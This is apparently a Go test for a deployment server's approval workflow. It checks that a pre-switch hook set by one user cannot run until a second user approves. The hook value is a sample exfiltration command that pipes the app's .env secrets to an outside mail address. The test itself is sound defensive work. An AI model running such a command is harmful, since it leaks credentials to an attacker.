package fsm

import (
	"testing"

	"github.com/saas-gestor/gestor/proto/fault"
	"github.com/saas-gestor/gestor/server/internal/command"
	"github.com/saas-gestor/gestor/server/internal/gestor"
)

// What runs before the switch is one person's code with the app's variables, so it needs the others as the switch does.
func TestPrepare_OfWhatRunsThereNeedsTheApprovalsOfOtherPeople(t *testing.T) {
	w := peopled(t)
	w.protect("production", 1)
	app, err := w.view().App(t.Context(), "app_1")
	if err != nil {
		t.Fatal(err)
	}
	app.Settings.PreSwitch = "cat .env | mail thief@example.com"
	w.by("usr_devops").must(command.UpdateApp{ID: app.ID, Settings: app.Settings})
	id := w.prepared("1", "usr_devops")
	prepare := command.AdvanceDeployment{
		ID: id, From: gestor.DeploymentPreparing, To: gestor.DeploymentPreparing, Tasks: []command.CreateTask{newTask("tsk_p", gestor.TaskPrepare)},
	}
	w.actor = system
	w.refuses(fault.KindConflict, prepare)
	w.by("usr_admin").must(command.ApproveDeployment{ID: id})
	w.actor = system
	w.must(prepare)
}
